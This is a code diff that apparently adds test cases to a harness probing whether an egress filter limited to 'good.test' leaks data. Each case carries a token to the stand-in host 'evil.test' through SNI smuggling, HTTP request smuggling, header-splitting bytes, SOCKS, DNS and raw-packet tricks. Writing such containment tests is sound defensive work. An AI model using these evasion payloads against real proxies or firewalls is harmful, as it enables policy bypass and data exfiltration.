@@ -486,6 +486,273 @@ def server_name(token, cut):
     shake(to_good(443), f"{token}.evil.test", cut)
 
 
+def client_hello(names, version=b"\3\3", kind=0):
+    """By hand, with a name list for each of `names`."""
+    def part(size, data):
+        return len(data).to_bytes(size, "big") + data
+
+    def extension(number, data):
+        return struct.pack(">H", number) + part(2, data)
+
+    lists = [extension(0, part(2, b"".join(bytes([kind]) + part(2, name) for name in one))) for one in names]
+    groups = extension(10, part(2, b"\0\x17\0\x1d")) + extension(13, part(2, b"\4\3\4\1\2\1")) + extension(11, b"\1\0")
+    body = (version + b"r" * 32 + part(1, b"") + part(2, b"\xc0\x2b\xc0\x2f\0\x2f") + part(1, b"\0")
+            + part(2, b"".join(lists) + groups))
+    return b"\x16\3\1" + part(2, b"\1" + part(3, body))
+
+
+EMPTY_RECORD, WARNING, CHANGE = b"\x17\3\3\0\0", b"\x15\3\1\0\2\1\x5a", b"\x14\3\3\0\1\1"
+
+
+@many("hello", [("twice", lambda name: client_hello([[b"good.test"], [name]])),
+                ("two_names", lambda name: client_hello([[b"good.test", name]])),
+                ("of_1_0", lambda name: client_hello([[name]], b"\3\1")),
+                ("of_ssl3", lambda name: client_hello([[name]], b"\3\0")),
+                ("other_kind", lambda name: client_hello([[name]], kind=1)),
+                ("with_nul", lambda name: client_hello([[b"good.test\0." + name]])),
+                ("with_space", lambda name: client_hello([[b"good.test " + name]])),
+                ("with_dot", lambda name: client_hello([[name + b"."]])),
+                ("behind_a_warning", lambda name: WARNING + client_hello([[name]])),
+                ("behind_nothing", lambda name: EMPTY_RECORD + client_hello([[name]])),
+                ("behind_an_empty_one", lambda name: b"\x16\3\1\0\0" + client_hello([[name]])),
+                ("behind_a_change", lambda name: CHANGE + client_hello([[name]])),
+                ("not_whole", lambda name: client_hello([[name]])[:-3])])
+def hello_by_hand(token, make):
+    """It is enough that the server hears it."""
+    say(to_good(443), make(f"{token}.evil.test".encode()))
+
+
+@attack
+def hello_behind_a_warning_goes_on(token):
+    """A server forgives a warning before the first message: the name behind it is the one that counts."""
+    shake(to_good(443), f"{token}.evil.test", lambda first: [WARNING + first])
+
+
+@many("tunnel_says", [("hello", b"CONNECT good.test:443 HTTP/1.1\r\nHost: good.test:443\r\n\r\n"),
+                      ("hello_by_socks", SOCKS_HELLO + socks(socks_name(b"good.test"), 443))])
+def tunnel_says(token, ask):
+    """The tunnel is to the good one, the hello in it names another."""
+    try:
+        sock = connect(*PROXY)
+        sock.sendall(ask)
+        sock.recv(1000)
+        if ask[0] == 5:
+            sock.recv(1000)
+    except ConnectionRefusedError:
+        sock = connect(GOOD, 443)
+    shake(sock, f"{token}.evil.test")
+
+
+def after(first, second):
+    """A second request of the same connection."""
+    return first + b" HTTP/1.1\r\nHost: good.test\r\n\r\n" + second + b"Connection: close\r\n\r\n"
+
+
+@many("then", [("absolute", b"GET http://evil.test/{} HTTP/1.1\r\nHost: evil.test\r\n"),
+               ("relative", b"GET /{} HTTP/1.1\r\nHost: evil.test\r\n"),
+               ("host", b"GET http://good.test/{} HTTP/1.1\r\nHost: evil.test\r\nHost: evil.test\r\n"),
+               ("number", b"GET http://11.0.0.2/{} HTTP/1.1\r\nHost: 11.0.0.2\r\n")])
+def then(token, second):
+    """A connection of the proxy is judged anew with each request."""
+    by_proxy(after(b"GET http://good.test/first", second.replace(b"{}", token.encode())))
+
+
+@attack
+def then_a_tunnel(token):
+    by_proxy(b"GET http://good.test/first HTTP/1.1\r\nHost: good.test\r\n\r\n"
+             b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n" + get(token))
+    bare_only(token)
+
+
+def bare_only(token):
+    """For what no server outside believes: that there is a way at all where nothing is in it."""
+    say(connect(EVIL, 80), get(token))
+
+
+CHUNKED = b"POST /first HTTP/1.1\r\nHost: good.test\r\nTransfer-Encoding: chunked\r\n\r\n"
+SECOND = b"GET /{} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
+
+
+@many("chunk", [("end", b"0\r\n\r\n"), ("plus", b"+0\r\n\r\n"), ("minus", b"-0\r\n\r\n"), ("hex", b"0x0\r\n\r\n"),
+                ("spaces", b" 0 \r\n\r\n"), ("score", b"0_0\r\n\r\n"), ("zeros", b"0" * 40 + b"\r\n\r\n"),
+                ("feeds", b"0\n\n"), ("hex_long", b"0x2\r\nab\r\n0\r\n\r\n"), ("score_long", b"0_2\r\nab\r\n0\r\n\r\n"),
+                ("wraps", b"10000000000000000\r\n0\r\n\r\n"), ("extension", b"0;a=b\r\n\r\n"),
+                ("extension_feed", b"0;a\nb\r\n\r\n"), ("extension_long", b"0;" + b"a" * 9000 + b"\r\n\r\n"),
+                ("trailer", b"0\r\nHost: evil.test\r\n\r\n"), ("size_short", b"1\r\nab\r\n0\r\n\r\n")])
+def chunk(token, body):
+    """Where the first one ends is not where a forgiving server thinks."""
+    say(to_good(), CHUNKED + body + SECOND.replace(b"{}", token.encode()))
+    bare_only(token)
+
+
+@many("framed", [("coding_twice", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"),
+                 ("coding_list", b"Transfer-Encoding: chunked, identity\r\n"),
+                 ("coding_x", b"Transfer-Encoding: xchunked\r\n"), ("coding_tab", b"Transfer-Encoding:\x0bchunked\r\n"),
+                 ("coding_space", b"Transfer-Encoding : chunked\r\n"), ("coding_quoted", b'Transfer-Encoding: "chunked"\r\n'),
+                 ("coding_folded", b"Transfer-Encoding:\r\n chunked\r\n"), ("coding_obs", b"Transfer-Encoding: \xa0chunked\r\n"),
+                 ("length_plus", b"Content-Length: +0\r\n"), ("length_list", b"Content-Length: 0, 70\r\n"),
+                 ("length_space", b"Content-Length : 70\r\n"), ("length_minus", b"Content-Length: -1\r\n"),
+                 ("length_return", b"X: a\rContent-Length: 70\r\n")])
+def framed(token, fields):
+    say(to_good(), b"POST /first HTTP/1.1\r\nHost: good.test\r\n" + fields + b"\r\n0\r\n\r\n" + SECOND.replace(b"{}", token.encode()))
+    bare_only(token)
+
+
+@many("split", [("return", b"X: a\rHost: evil.test\r\n"), ("nel", b"X: a\xc2\x85Host: evil.test\r\n"), ("obs", b"X: a\x85Host: evil.test\r\n"),
+                ("separator", b"X: a\xe2\x80\xa8Host: evil.test\r\n"), ("form", b"X: a\x0cHost: evil.test\r\n"),
+                ("vertical", b"X: a\x0bHost: evil.test\r\n"), ("unit", b"X: a\x1cHost: evil.test\r\n"),
+                ("nul", b"X: a\0Host: evil.test\r\n"), ("no_colon", b"Host evil.test\r\n"), ("before", b" Host: evil.test\r\n")])
+def split(token, field):
+    """What some servers take for the end of a line. The first event tells which host that server understood."""
+    say(to_good(), f"GET /{token}-asks HTTP/1.1\r\n".encode() + field + b"Host: good.test\r\nConnection: close\r\n\r\n")
+    bare_only(token)
+
+
+@many("line", [("obs", b"GET /{}\x85HTTP/1.1\r\nHost: evil.test\r\n\r\n"), ("tab", b"GET\t/{}\tHTTP/1.1\r\nHost: evil.test\r\n\r\n"),
+               ("feed_first", b"\r\nGET /{} HTTP/1.1\r\nHost: evil.test\r\n\r\n"), ("form", b"GET\x0c/{}\x0cHTTP/1.1\r\nHost: evil.test\r\n\r\n"),
+               ("old", b"GET /{}\r\n"), ("lower", b"get /{} http/1.1\r\nhost: evil.test\r\n\r\n"), ("high", b"GET /{} HTTP/1.9\r\nHost: evil.test\r\n\r\n")])
+def line(token, data):
+    say(to_good(), data.replace(b"{}", token.encode()))
+    bare_only(token)
+
+
+@many("http2", [("port_80", lambda: to_good()), ("proxy", lambda: connect(*PROXY))])
+def http2_without_asking(token, way):
+    """Who is asked is written in a way of its own."""
+    path = f"/{token}".encode()
+    fields = b"\x82\x86\x44" + bytes([len(path)]) + path + b"\x41\x09evil.test"
+    data = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0" + struct.pack(">I", len(fields))[1:] + b"\1\5\0\0\0\1" + fields)
+    try:
+        sock = way()
+    except ConnectionRefusedError:
+        sock = connect(EVIL, 80)
+    say(sock, data)
+
+
+@many("pool", [("first", "198.18.0.1"), ("second", "198.18.0.2"), ("zero", "198.18.0.0"), ("last", "198.19.255.255"),
+               ("mapped", "::ffff:198.18.0.2")])
+def pool(token, address):
+    """An address that nobody was given, or is the good one's, with another's pages."""
+    for port in (80, 443, 8080):
+        try:
+            say(connect(address, port), get(token))
+        except OSError:
+            pass
+    tunnel(token, f"{address}:80", get(token))
+    bare_only(token)
+
+
+@many("itself", [("six", ("::1", 1008)), ("other", ("127.9.9.9", 1008)), ("number", (EVIL, 1008)), ("dns", ("127.0.0.1", 1009))])
+def itself(token, where):
+    """Where it listens, by other ways, and what listens beside it."""
+    for data in (b"GET http://evil.test/" + token.encode() + b" HTTP/1.1\r\nHost: evil.test\r\n\r\n", question(token)):
+        try:
+            say(connect(*where), data)
+            sock = connect(*where, socket.SOCK_DGRAM)
+            sock.settimeout(0.1)
+            sock.send(data)
+            finish_datagram(sock)
+        except OSError:
+            pass
+    bare_only(token)
+
+
+@many("socks_does", [("bind", 2), ("associate", 3), ("resolve", 0xf0), ("pointer", 0xf1)])
+def socks_does(token, command):
+    try:
+        sock = connect(*PROXY)
+        sock.sendall(SOCKS_HELLO)
+        sock.recv(2)
+        sock.sendall(bytes([5, command, 0]) + socks_name(f"{token}.evil.test".encode()) + b"\0\7")
+        if sock.recv(100)[1:2] == b"\0":
+            say(sock, get(token))
+    except OSError:
+        pass
+    bare_only(token)
+
+
+@attack
+def ask_by_tcp_behind_the_good(token):
+    """Both questions in one segment."""
+    parts = [question("good", zone="test"), question(token)]
+    say(connect(EVIL, 53), b"".join(struct.pack(">H", len(part)) + part for part in parts))
+
+
+@many("ask_oddly", [("subnet", struct.pack(">HHIH", 41, 1232, 0, 12) + b"\0\x08\0\x08\0\1\x20\0\x0b\0\0\2"),
+                    ("dnssec", struct.pack(">HHIH", 41, 1232, 0x8000, 0))])
+def ask_oddly(token, option):
+    sock = connect("127.0.0.1", 53, socket.SOCK_DGRAM)
+    sock.settimeout(0.5)
+    sock.send(question(token, more=b"\0" + option))
+    finish_datagram(sock)
+
+
+@many("unix", [("abstract", b"\0world"), ("path", os.path.join(os.path.dirname(sys.argv[0]), "world/sock"))])
+def unix(token, name):
+    """A server of the host, which would say it to anybody."""
+    sock = socket.socket(socket.AF_UNIX)
+    sock.settimeout(WAIT)
+    sock.connect(name)
+    say(sock, token.encode())
+
+
+@many("kind", [("sctp", 132), ("dccp", 33), ("raw", 17)])
+def other_kinds(token, protocol):
+    """A datagram, or a stream, made by hand."""
+    try:
+        if protocol == 17:
+            sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol)
+            sock.sendto(struct.pack(">HHHH", 1234, 7, 8 + len(token), 0) + token.encode(), (EVIL, 0))
+        else:
+            say(connect(EVIL, 80, protocol=protocol), get(token))
+    except OSError:
+        pass
+    bare_only(token)
+
+
+@attack
+def packets(token):
+    """A whole frame to the device."""
+    try:
+        payload = token.encode()
+        udp = struct.pack(">HHHH", 1234, 7, 8 + len(payload), 0) + payload
+        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(GOOD), socket.inet_aton(EVIL))
+        sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0800)
+        sock.sendto(head + udp, ("lo", 0x0800))
+    except OSError:
+        pass
+    bare_only(token)
+
+
+@attack
+def reset_before_the_first_byte(token):
+    """Many that end before they are judged; what comes behind is judged as ever."""
+    for _ in range(200):
+        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        sock.setblocking(False)
+        sock.connect_ex((EVIL, 80))
+        sock.close()
+    bare_only(token)
+
+
+@attack
+def from_a_port_that_was_allowed(token):
+    """The same port of ours, first to the good one and then to another."""
+    port = 0
+    for address in (socket.gethostbyname("good.test"), EVIL):
+        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        sock.settimeout(WAIT)
+        sock.bind(("0.0.0.0", port))
+        sock.connect((address, 80))
+        port = sock.getsockname()[1]
+        if address == EVIL:
+            say(sock, get(token))
+        sock.close()
+
+
 # -- the walls
 
 def run(*argv):
